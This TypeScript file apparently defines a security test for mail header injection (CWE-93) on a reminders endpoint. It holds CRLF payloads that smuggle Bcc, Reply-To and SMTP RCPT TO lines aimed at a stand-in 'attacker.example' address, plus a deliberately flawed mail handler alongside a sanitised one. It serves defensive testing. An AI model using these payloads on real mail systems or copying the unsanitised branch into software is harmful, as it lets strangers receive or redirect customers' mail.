import { json } from '../http/answer.ts';
import { invalid, membersIn, textIn } from './asked.ts';
import { defineAttack, type Exploit, judged, posting, type Stage } from './attack.ts';
import { type Mail, openMailbox } from './mailbox.ts';

const path = '/v1/tools/reminders';
const stranger = 'list@attacker.example';

/** A reminder by mail, with a subject of the customer's. */
export const headerInjection = defineAttack({
  id: 'header-injection',
  title: 'A line break in a subject begins a header of its own',
  cwe: 'CWE-93',
  finding: 'attack.header-injection',
  interpreter: 'a mail server on a socket',
  operations: ['POST /v1/tools/reminders'],
  open: openMail,
  exploits: [
    sent('a hidden receiver', `Pick up\r\nBcc: ${stranger}`, 'ada@mail.example.com', received),
    sent('a hidden receiver after a line feed', `Pick up\nbcc:${stranger}`, 'ada@mail.example.com', received),
    sent('a receiver among the commands', 'Pick up', `ada@mail.example.com>\r\nRCPT TO:<${stranger}`, received),
    sent(
      'a second mail',
      `Pick up\r\n\r\nx\r\n.\r\nMAIL FROM:<shop@x.example>\r\nRCPT TO:<${stranger}>\r\nDATA\r\n`,
      'ada@mail.example.com',
      received,
    ),
    sent(
      'a mail of HTML',
      'Pick up\r\nContent-Type: text/html\r\n\r\n<h1>Free</h1>',
      'ada@mail.example.com',
      ({ headers }) => headers['content-type'] === 'text/html',
    ),
    sent(
      'another sender of answers',
      `Pick up\r\nReply-To: ${stranger}`,
      'ada@mail.example.com',
      ({ headers }) => headers['reply-to'] === stranger,
    ),
  ],
  ordinary: [
    'Your order: 2 × zinc',
    "O'Brien & Sons: Bcc or Cc?",
    'To: do',
    'First line\nsecond line',
    'Re: Fwd: Subject: pick up',
    'Reply-To whom?',
  ].map((subject) => posting(path, { subject, to: 'ada@mail.example.com' })),
});

function received({ receivers }: Mail): boolean {
  return receivers.includes(stranger);
}

function sent(name: string, subject: string, to: string, works: (mail: Mail) => boolean) {
  const worked: Exploit['works'] = ({ status, body }) => {
    if (status !== 200) return false;
    const { mails } = JSON.parse(body.toString()) as { readonly mails: readonly Mail[] };
    return mails.some(works);
  };
  return judged(name, posting(path, { subject, to }), worked);
}

async function openMail(): Promise<Stage> {
  const mailbox = await openMailbox();
  return {
    async answer({ body }, isFlawed) {
      const members = membersIn(body);
      const [subject, to] = [textIn(members?.['subject'], 500), textIn(members?.['to'], 500)];
      if (subject === undefined || to === undefined) return invalid;
      const isPlain = (text: string) => !/[\r\n]/.test(text);
      if (!isFlawed && !isPlain(to)) return invalid;
      const line = isFlawed ? subject : subject.replace(/[\r\n]+/g, ' ');
      const mails = await mailbox.deliver(
        [
          'MAIL FROM:<shop@alder.example.com>',
          `RCPT TO:<${to}>`,
          'DATA',
          `To: ${to}`,
          `Subject: ${line}`,
          '',
          'Your order is ready.',
          '.',
          'QUIT',
          '',
        ].join('\r\n'),
      );
      return json(200, { mails });
    },
    close: () => mailbox.close(),
  };
}
